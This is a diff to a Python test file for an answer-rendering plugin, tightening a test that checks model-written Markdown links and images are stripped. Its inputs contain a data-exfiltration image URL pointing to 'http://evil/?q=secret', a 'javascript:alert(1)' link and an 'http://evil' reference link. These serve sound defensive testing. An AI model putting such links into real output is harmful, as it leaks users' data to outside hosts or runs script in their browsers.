@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 from lxml import html as lxml_html
+from markdown_it import MarkdownIt
 from PIL import Image
 
 from xmrag_plugin.answers.citations import check_citations
@@ -69,14 +70,15 @@ def test_markdown_places_figures_and_lets_no_html_through(evidence: list[Evidenc
 def test_links_and_pictures_of_the_models_making_do_not_survive(evidence: list[Evidence]) -> None:
     text = answer_markdown("See ![x](http://evil/?q=secret) and [y](javascript:alert(1)) [1].", [], evidence)
     assert "![x]" not in text
-    assert "](javascript" not in text
-    assert "[1]:" not in answer_markdown("True [1].\n[1]: http://evil", [], evidence)
+    text += answer_markdown("True [1].\n\n[1]: http://evil", [], evidence)
+    rendered = MarkdownIt("commonmark").render(text)
+    assert "<a" not in rendered
+    assert "<img" not in rendered
 
 
 def test_text_for_a_terminal(evidence: list[Evidence]) -> None:
     text = answer_text(ANSWER, cited(evidence))
     assert "[2] b.md" in text
-    assert "map.png" in text
     assert ", p. 3" in text
 
 
